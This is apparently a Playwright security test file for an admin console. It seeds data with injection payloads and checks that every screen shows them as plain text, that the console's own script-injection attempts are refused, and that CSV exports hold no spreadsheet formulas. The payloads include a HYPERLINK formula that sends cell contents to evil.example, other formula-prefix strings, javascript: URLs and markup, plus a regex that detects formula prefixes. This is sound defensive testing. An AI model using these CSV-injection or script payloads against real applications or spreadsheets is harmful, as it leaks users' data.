import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { type ConsoleScreenId, consoleScreenIds } from '@sidenote/contract/console-screens';
import type { Storage } from '@sidenote/gateway/storage/database';
import { keepRecords } from '@sidenote/gateway/storage/keep-records';
import { fillBusyOrganisation } from '@sidenote/gateway/testing/busy-organisation';
import { directoryToken, scimClient } from '@sidenote/gateway/testing/directory';
import { attestedProvider, registryFile, registryOf } from '@sidenote/gateway/testing/registry';
import { requestNo, sampleRecord } from '@sidenote/gateway/testing/sample-rows';
import { startWebhookReceiver, type WebhookReceiver } from '@sidenote/gateway/testing/webhook-receiver';
import { builtScreens } from '../../console/src/screens/screens.ts';
import { long } from '../../scripts/proofs/of-proofs-alone.ts';
import { everyWord, expectHarmless, fieldsIn, markup, otherMarkup } from './rig/harmless.ts';
import { type OpenConsole, openConsole } from './rig/open-console.ts';
import { watchRequests } from './rig/settled.ts';
import { furtherViews } from './rig/views.ts';

const link = '=HYPERLINK("https://evil.example/?"&A1,"x")';
/** What a spreadsheet would reckon with. */
const formulas = [
  link,
  '@SUM(A1)',
  '＝1+1',
  '-1+1',
  '+1',
  '\t=1',
  '\r=1',
  '＋1',
  '－1',
  '＠x',
  'a\t=1',
  'a;=1',
];
/** Names of teams, from here on. */
const teams: Readonly<Record<string, string>> = {
  Platform: link,
  Support: '@SUM(A1)',
  Billing: '＝1+1',
  Design: markup('team'),
};

let opened: OpenConsole;
let receiver: WebhookReceiver;
let registry: Awaited<ReturnType<typeof registryFile>>;

test.beforeAll(async () => {
  const { token, sha256 } = directoryToken();
  const name = markup('provider');
  const evidence = 'javascript:taken=1';
  const given = attestedProvider('https://models.example/v1', { name, key: { stored: true } });
  const provider = { ...given, retention: { ...given.retention, evidence } };
  const [processor] = registryOf([provider]).subProcessors ?? [];
  if (processor === undefined) throw new Error('the sample registry names no sub-processor');
  const subProcessors = [{ ...processor, name: markup('processor'), purpose: otherMarkup, evidence }];
  registry = await registryFile(registryOf([provider], { subProcessors }));
  receiver = await startWebhookReceiver();
  const organisation = { id: 'acme', name: markup('organisation'), claim: 'acme' };
  opened = await openConsole({
    config: {
      ...{ region: 'eu', providersFile: registry.file },
      organisations: [{ ...organisation, directoryTokenSha256: sha256 }],
    },
    fill,
  });
  await opened.signIn('Ada Admin', 'opt-in');
  const scim = scimClient(opened.gateway.url, token);
  const { Resources: groups = [] } = (await scim('GET', '/Groups')).body;
  const schemas = ['urn:ietf:params:scim:api:messages:2.0:PatchOp'];
  for (const { id, displayName = '' } of groups) {
    const value = teams[displayName] ?? displayName;
    const Operations = [{ op: 'replace', path: 'displayName', value }];
    expect((await scim('PATCH', `/Groups/${id}`, { schemas, Operations })).status).toBe(204);
  }
  await store();
});
test.afterAll(async () => {
  await opened.close();
  await receiver.close();
  await registry.remove();
});

/** Weeks of use, with models and sites whose names are nasty. */
async function fill(storage: Storage): Promise<void> {
  await fillBusyOrganisation(storage, { orgId: 'acme', weeks: 5, now: Date.now() });
  await storage.inOrganisation('acme', async (db) => {
    const change = (from: string) => db.updateTable('interaction').where('model', '=', from);
    await change('small-model')
      .set({ model: markup('model') })
      .execute();
    await change('test-model').set({ provider: link }).execute();
  });
  const nasty = formulas.map((model, at) =>
    sampleRecord(requestNo(at), { model, site: model, at: Date.now() }),
  );
  await keepRecords(storage, nasty);
}

/** Writes markup wherever an owner can, by the interface. */
async function store(): Promise<void> {
  const given = { house: markup('house'), agreement: markup('agreement'), webhook: markup('webhook') };
  const words = { ...given, reason: markup('reason'), title: markup('title'), group: markup('group') };
  const stored = await opened.page.evaluate(
    async ({ words, otherMarkup, formulas, receiver }) => {
      const base = '/v1/admin/organisation';
      const headers = { 'content-type': 'application/json', 'x-sidenote-console': '1' };
      const send = async (method: string, path: string, body: object, etag = '') =>
        (await fetch(path, { method, headers: { ...headers, 'if-match': etag }, body: JSON.stringify(body) }))
          .status;
      const read = async () => {
        const response = await fetch(base, { headers });
        return { ...(await response.json()), etag: response.headers.get('etag') ?? '' };
      };
      const { rules, processors, etag } = await read();
      const parameters = { task: otherMarkup };
      const own = { id: 'own', title: words.title, description: otherMarkup, parameters };
      const house = { instructions: `${words.house} ${otherMarkup}`, actions: [own] };
      const groups = { allow: ['*', words.group], block: [otherMarkup] };
      const agreement = { reference: words.agreement, covers: processors };
      const { reason } = words;
      const statuses = [
        await send('PUT', `${base}/rules`, { rules: { ...rules, house, groups }, reason }, etag),
      ];
      const next = (await read()).etag;
      statuses.push(
        await send('PUT', `${base}/hipaa`, { bound: true, agreement, reason: otherMarkup }, next),
      );
      const webhook = { name: words.webhook, url: receiver, format: 'json', reason };
      statuses.push(await send('POST', '/v1/admin/webhooks', webhook));
      for (const formula of formulas)
        statuses.push(await send('POST', '/v1/admin/people/revoke', { subject: formula, reason: formula }));
      return statuses;
    },
    { words, otherMarkup, formulas, receiver: receiver.url },
  );
  expect(stored.filter((status) => status >= 300)).toEqual([]);
}

const views = consoleScreenIds
  .filter((id) => builtScreens.has(id))
  .flatMap((id: ConsoleScreenId) => [
    id,
    ...Object.values(furtherViews[id] ?? {}).map((search) => id + search),
  ])
  .concat(['scope?part=who', 'insights?by=team', 'insights?by=model']);

test('what anybody has written is text on every screen of the console, and runs on none', long, async () => {
  const { page, gateway, complaints } = opened;
  const settled = watchRequests(page);
  const read: string[] = [];
  const drawn = async (address: string) => {
    await page.goto(`${gateway.url}/console/${address}`);
    await page.locator('main h1').waitFor();
    await page.waitForLoadState('networkidle');
    await settled();
    await expectHarmless(page);
  };
  for (const view of views) {
    await drawn(view);
    read.push(await everyWord(page));
  }
  const nasty = ['show', 'part', 'site', 'by', 'action', 'actor'].map((name) => [name, otherMarkup]);
  for (const view of views.filter((one) => !one.includes('?')))
    await drawn(`${view}?${new URLSearchParams(nasty)}`);
  // Each was there to be seen, with all its letters.
  for (const of of [
    'organisation',
    'house',
    'title',
    'group',
    'agreement',
    'webhook',
    'reason',
    'provider',
    'processor',
    'team',
    'model',
  ])
    expect(
      read.filter((words) => words.includes(markup(of))),
      of,
    ).not.toEqual([]);
  expect(complaints).toEqual([]);
});

test('no text becomes markup or a script in the console, were its own code to try', async () => {
  const { page } = opened;
  const tried = await page.evaluate(() => {
    const refused: string[] = [];
    const ways: Record<string, () => unknown> = {
      markup: () => Object.assign(document.createElement('p'), { innerHTML: '<b>x</b>' }),
      writing: () => document.write('x'),
      address: () => Object.assign(document.createElement('script'), { src: '/console/x.js' }),
      text: () => Object.assign(document.createElement('script'), { text: 'taken=1' }),
      handler: () => document.createElement('img').setAttribute('onerror', 'taken=1'),
      timer: () => setTimeout('taken=1' as unknown as () => void),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(...of: unknown[]): void } }
        ).trustedTypes.createPolicy('ours', {}),
    };
    for (const [name, way] of Object.entries(ways))
      try {
        way();
      } catch (error) {
        if (error instanceof TypeError) refused.push(name);
      }
    return refused;
  });
  expect(tried).toEqual(['markup', 'writing', 'address', 'text', 'handler', 'timer', 'policy']);
  // An address is none of what Trusted Types look at: the policy of scripts refuses it.
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
    Object.assign(document.createElement('a'), { href: 'javascript:taken=1' }).click();
  });
  const refused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused);
  await expect.poll(refused).toEqual(['script-src-elem']);
  await expectHarmless(page);
});

test('no field of any CSV file of the console is a formula', long, async () => {
  const { page, gateway } = opened;
  for (const [view, button, files, held] of [
    ['audit', 'CSV', 1, formulas.map((formula) => formula.trim())],
    ['data-out', 'CSV', 1, formulas],
    ['insights?by=team', 'Download as CSV', 2, formulas.slice(0, 3)],
    ['insights?by=model', 'Download as CSV', 2, [`${link} / test-model`]],
    ['blocked', 'Download as CSV', 1, []],
  ] as const) {
    await page.goto(`${gateway.url}/console/${view}`);
    const buttons = page.getByRole('button', { name: button, exact: true });
    await expect(buttons).toHaveCount(files);
    const fields: string[] = [];
    for (const one of await buttons.all()) {
      const saved = page.waitForEvent('download');
      await one.click();
      fields.push(...fieldsIn(await readFile(await (await saved).path(), 'utf8')));
    }
    expect(fields.length, view).toBeGreaterThan(20);
    for (const field of fields) expect(field, view).not.toMatch(/^[\s\p{C}"]*[=+\-@＝＋－＠]|^[\t\r]/u);
    const bare = fields.map((field) => field.replaceAll("'", ''));
    for (const formula of held) expect(bare, view).toContain(formula);
  }
});
